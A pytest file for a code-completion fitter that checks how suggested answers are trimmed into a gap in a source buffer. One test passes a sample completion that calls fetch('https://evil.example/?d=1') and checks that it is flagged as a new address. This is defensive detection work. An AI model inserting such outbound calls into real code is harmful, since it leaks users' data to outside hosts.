"""Completions fit their hole: each case of hole.toml, and laws that hold for any answer."""

from __future__ import annotations

import tomllib
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pointsman.agents.hole import fit, hole_check, wants_block
from pointsman.analysis import languages

CASES = tomllib.loads(Path(__file__).with_name("hole.toml").read_text("utf-8"))["case"]
CODE = st.text(alphabet="ab (){}[]\n\t\"'.,:;=+-_0\u202e`", max_size=60)


@pytest.mark.parametrize("case", CASES, ids=lambda case: case["name"])
def test_case(case: dict[str, str]) -> None:
    prefix, suffix = case["buffer"].split("█")
    assert fit(case["answer"], prefix, suffix, block=wants_block(prefix, suffix)) == case["expected"]


@given(CODE, CODE, CODE, st.booleans())
def test_fitting_is_total_and_settles(answer: str, prefix: str, suffix: str, block: bool) -> None:
    once = fit(answer, prefix, suffix, block=block)
    assert once == "" or once.strip()
    assert block or "\n" not in once
    assert not suffix.partition("\n")[0].strip() or not once or "\u202e" not in once


@given(CODE)
def test_brackets_are_never_closed_twice(answer: str) -> None:
    text = fit(answer, "f(", ")", block=False)
    depth = 0
    for character in _outside_quotes(text):
        depth += (character in "([{") - (character in ")]}")
        assert depth >= 0


def _outside_quotes(text: str) -> str:
    kept, quote = [], ""
    for at, c in enumerate(text):
        if quote:
            quote = "" if c == quote and text[at - 1] != "\\" else quote
        elif c in "\"'`":
            quote = c
        else:
            kept.append(c)
    return "".join(kept)


def test_an_answer_that_breaks_the_file_falls_below_the_threshold() -> None:
    python = languages.by_name("python")
    whole = "def f(a):\n    x = \n    return x\n\n\ndef g(b):\n    return b\n"
    prefix, suffix = whole[:18], whole[18:]
    check = hole_check(prefix, suffix, block=False, language=python)
    assert check("a + 1").score >= 0.7
    assert check("").score == 0.0


def test_a_new_address_is_flagged() -> None:
    check = hole_check("x = ", "\n", block=False, language=None)
    assert check('fetch("https://evil.example/?d=1")').score < 0.7
